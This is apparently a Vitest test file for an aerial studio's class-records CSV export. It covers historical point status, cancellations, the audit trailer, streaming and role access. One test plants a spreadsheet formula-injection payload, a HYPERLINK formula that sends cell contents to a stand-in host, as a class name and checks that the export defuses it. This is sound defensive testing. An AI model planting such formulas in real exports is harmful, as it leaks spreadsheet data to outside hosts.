import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { APP_URL, as, createTestApp, TEST_AUDIT_KEY, type TestContext } from '../helpers/app';
import { makePoint, makeRoom, makeStandardPath, makeUser } from '../helpers/factories';
import { csvRecords } from '../helpers/csv';
import { runMailCycle } from '../../server/mail/worker';
import { auditRepository } from '../../server/modules/audit/audit.repository';

// Sunday morning before Monday 30 Nov 2026's class (the studio is in Europe/London: UTC in winter).
let ctx: TestContext;
beforeEach(async () => {
  ctx = await createTestApp({ now: '2026-11-29T10:00:00Z' });
});
afterEach(async () => ctx.close());

const HOUR = 3_600_000;
type Agent = Awaited<ReturnType<typeof as>>;
const START_LONDON = 'class start (Europe/London)';

async function passAll(agent: Agent, pointId: number) {
  const list = await agent.get(`/api/points/${pointId}/checklist`);
  return agent.post(`/api/points/${pointId}/clearances`).send({ items: list.body.items.map((i: { key: string }) => ({ key: i.key, result: 'pass' })) });
}

/** A room with points cleared through the API, a class type named `className` and an instructor. */
async function studio(rigger: Agent, className: string, n = 2) {
  const roomId = await makeRoom(ctx.db);
  const points: number[] = [];
  for (let i = 0; i < n; i++) {
    const p = await makePoint(ctx.db, { roomId, label: `CH-${i + 1}`, structuralRatingKn: 30 });
    await makeStandardPath(ctx.db, p.id, { apparatus: { kind: 'fabric', inspectedUntil: '2027-03-01T00:00:00Z' } });
    expect((await passAll(rigger, p.id)).body.cleared).toBe(true);
    points.push(p.id);
  }
  const [ct] = await ctx.db('class_types').insert({ name: className, apparatus: 'fabric', duration_minutes: 60, capacity: 8, performers_per_point: 1, created_at: new Date().toISOString() }).returning('id');
  const instructor = await makeUser(ctx.db, { role: 'instructor', name: 'Wren Oakley' });
  return { roomId, points, classTypeId: (ct as { id: number }).id, instructorId: instructor.id };
}

async function book(desk: Agent, s: Awaited<ReturnType<typeof studio>>, startsAt: string) {
  const res = await desk.post('/api/sessions').send({ classTypeId: s.classTypeId, instructorId: s.instructorId, roomId: s.roomId, startsAt, endsAt: new Date(Date.parse(startsAt) + HOUR).toISOString(), pointIds: s.points });
  expect(res.status, res.text).toBe(201);
  return res.body.id as number;
}

const cycle = () => runMailCycle({ db: ctx.db, mailer: { send: async () => undefined, close: () => undefined }, clock: ctx.clock, appUrl: APP_URL, log: () => undefined });

describe('GET /api/sessions/records/export.csv: the classes held, as recorded at their start', () => {
  it('exports Monday’s class with its points cleared at the start after a fault is opened on Wednesday, and the printable log agrees', async () => {
    const rigger = await as(ctx, 'rigger');
    const desk = await as(ctx, 'reception');
    const owner = await as(ctx, 'owner');
    const s = await studio(rigger, 'Silks Foundations');
    const monday = await book(desk, s, '2026-11-30T18:00:00Z');
    const wednesday = await book(desk, s, '2026-12-02T18:00:00Z');
    expect((await desk.post(`/api/sessions/${wednesday}/cancel`).send({ reason: 'Instructor unwell' })).status).toBe(200);

    ctx.clock.set('2026-11-30T18:00:10Z');
    expect((await cycle()).sessionPointsRecorded).toBe(2);
    ctx.clock.set('2026-12-02T09:00:00Z');
    expect((await rigger.post('/api/faults').send({ pointId: s.points[0], severity: 'high', description: 'Clamp bolt loose' })).status).toBe(201);
    expect((await owner.get(`/api/points/${s.points[0]}`)).body.status.status).toBe('blocked');
    ctx.clock.set('2026-12-02T20:00:00Z');

    const res = await owner.get('/api/sessions/records/export.csv?from=2026-11-30T00:00:00Z&to=2026-12-07T00:00:00Z');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const { header, records, trailer } = csvRecords(res.text);
    expect(header).toEqual([START_LONDON, 'class start (ISO, UTC)', 'class', 'room', 'instructor', 'cancelled', 'point', 'status at start', 'reasons at start', 'cleared until (at start)', 'apparatus kind', 'apparatus serial', 'recorded at (Europe/London)']);
    const held = records.filter((r) => r['class start (ISO, UTC)'] === '2026-11-30T18:00:00.000Z');
    expect(held.map((r) => r.point)).toEqual(['CH-1', 'CH-2']);
    // The record as it stood at Monday's start, not Wednesday's fault.
    expect(held[0]).toMatchObject({ class: 'Silks Foundations', instructor: 'Wren Oakley', cancelled: 'no', 'status at start': 'cleared', 'reasons at start': '', 'apparatus kind': 'fabric' });
    expect(held[0]['apparatus serial']).not.toBe('');
    expect(held[0][START_LONDON]).toContain('18:00');
    expect(held[0]['recorded at (Europe/London)']).toContain('18:00');
    // Wednesday's class was cancelled before it began: its record is kept at the export and marked.
    const cancelled = records.filter((r) => r['class start (ISO, UTC)'] === '2026-12-02T18:00:00.000Z');
    expect(cancelled).toHaveLength(2);
    expect(cancelled.every((r) => r.cancelled === 'yes')).toBe(true);
    expect(cancelled.find((r) => r.point === 'CH-1')!['status at start']).toBe('blocked');
    expect(cancelled.find((r) => r.point === 'CH-1')!['reasons at start']).toContain('Clamp bolt loose');
    // Newest class first, like the inspection log.
    expect(records[0].cancelled).toBe('yes');

    const head = await auditRepository(ctx.db, TEST_AUDIT_KEY).head();
    expect(trailer!.slice(0, 3)).toEqual(['# audit chain head', `${head.count}:${head.hash}`, '4 class point records']);
    expect(trailer).toHaveLength(header.length);

    const printable = (await owner.get('/api/inspections/export.html?from=2026-11-30T00:00:00Z&to=2026-12-07T00:00:00Z')).text;
    const section = printable.slice(printable.indexOf('data-testid="classes-held"'));
    expect(section).toContain('Classes held');
    expect(section).toContain(`data-session="${monday}"`);
    const mondayArticle = section.slice(section.indexOf(`data-session="${monday}"`));
    expect(mondayArticle.slice(0, mondayArticle.indexOf('</div>'))).not.toContain('blocked');
    expect(section).toContain('Cancelled');
    expect(printable).toContain('2 classes held (4 booked points)');
    expect(printable).toContain(`${head.count}:${head.hash}`);
    expect(printable).toContain('<strong>Caution.</strong>');
  });

  it('writes a class name that a spreadsheet would run as a formula as text', async () => {
    const rigger = await as(ctx, 'rigger');
    const desk = await as(ctx, 'reception');
    const s = await studio(rigger, '=HYPERLINK("http://x.test/?"&B2&C2,"Gate OK")', 1);
    await book(desk, s, '2026-11-30T18:00:00Z');
    ctx.clock.set('2026-12-01T09:00:00Z');
    const { records } = csvRecords((await rigger.get('/api/sessions/records/export.csv')).text);
    expect(records).toHaveLength(1);
    expect(records[0].class).toBe(`'=HYPERLINK("http://x.test/?"&B2&C2,"Gate OK")`);
    expect(Object.values(records[0]).some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
  });

  it('streams every record of a history longer than one batch, keeping the missing ones first', async () => {
    const rigger = await as(ctx, 'rigger');
    const owner = await as(ctx, 'owner');
    const s = await studio(rigger, 'Hoop Flow', 2);
    // 300 weekly-ish classes written straight into the table in the past: none has its record yet.
    const now = new Date().toISOString();
    const sessions = Array.from({ length: 300 }, (_, k) => {
      const start = new Date(Date.parse('2026-11-29T09:00:00Z') - (k + 1) * 6 * HOUR);
      return { class_type_id: s.classTypeId, instructor_id: s.instructorId, room_id: s.roomId, starts_at: start.toISOString(), ends_at: new Date(start.getTime() + HOUR).toISOString(), created_at: now, updated_at: now };
    });
    await ctx.db.transaction(async (trx) => {
      for (let i = 0; i < sessions.length; i += 100) {
        const ids = (await trx('sessions').insert(sessions.slice(i, i + 100)).returning('id')).map((r: { id: number }) => r.id);
        await trx('session_points').insert(ids.flatMap((id, j) => s.points.map((point_id) => ({ session_id: id, point_id, starts_at: sessions[i + j].starts_at, ends_at: sessions[i + j].ends_at }))));
      }
    });
    expect(await ctx.db('session_records').count({ n: '*' }).first()).toMatchObject({ n: 0 });

    const res = await owner.get('/api/sessions/records/export.csv');
    expect(res.status).toBe(200);
    expect(res.headers['transfer-encoding']).toBe('chunked');
    const { records, trailer } = csvRecords(res.text);
    // 600 records: more than one batch of 500, each class's points once, newest first.
    expect(records).toHaveLength(600);
    expect(new Set(records.map((r) => `${r['class start (ISO, UTC)']} ${r.point}`)).size).toBe(600);
    const starts = records.map((r) => r['class start (ISO, UTC)']);
    expect([...starts].sort().reverse()).toEqual(starts);
    expect(trailer![2]).toBe('600 class point records');
    // The printable log's section holds them all too.
    expect((await owner.get('/api/inspections/export.html')).text).toContain('300 classes held (600 booked points)');
  }, 60_000);

  it('is for the owner and the rigger, as the inspection export is', async () => {
    expect((await (await as(ctx, 'reception')).get('/api/sessions/records/export.csv')).status).toBe(403);
    expect((await (await as(ctx, 'instructor')).get('/api/sessions/records/export.csv')).status).toBe(403);
    expect((await (await as(ctx, 'rigger')).get('/api/sessions/records/export.csv')).status).toBe(200);
  });
});
